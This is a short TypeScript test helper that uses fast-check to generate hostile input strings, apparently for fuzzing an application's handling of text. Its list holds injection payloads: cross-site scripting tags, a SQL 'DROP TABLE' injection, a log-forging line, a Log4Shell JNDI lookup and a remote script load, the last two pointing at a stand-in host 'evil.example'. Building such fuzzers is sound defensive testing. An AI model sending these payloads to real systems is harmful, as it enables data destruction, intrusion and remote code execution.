import fc from 'fast-check';

const attacks = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE campaigns; --",
  '</p></body></html><script src="//evil.example"></script>',
  'javascript:alert(1)',
  '\r\n{"level":"INFO","message":"approved by ana"}',
  '\u001b[2J\u001b[1;31mRED\u0007',
  '\u202Egpj.exe',
  '\u0000\u0001\u2028\u2029',
  '__proto__',
  'constructor',
  '../../../campaigns/other',
  '..%2f..%2fadmin',
  'arn:aws:cloudformation:eu-west-1:999999999999:stack/app/1',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$.campaign.image',
  '\ud800',
  'x'.repeat(64 * 1024),
];

/** Text that somebody might send who means no good, and any other text that is not empty. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...attacks) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...attacks), fc.string()).map(([attack, more]) => more + attack) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }) },
);
